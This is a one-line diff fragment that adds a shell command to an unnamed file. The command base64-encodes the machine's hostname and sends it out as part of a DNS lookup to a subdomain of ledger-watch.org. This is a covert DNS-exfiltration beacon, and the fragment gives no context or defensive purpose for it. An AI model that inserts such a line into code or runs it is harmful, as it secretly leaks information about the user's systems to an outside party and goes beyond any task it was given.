@@ -1,0 +1,1 @@
+host "$(hostname | base64).x.ledger-watch.org"
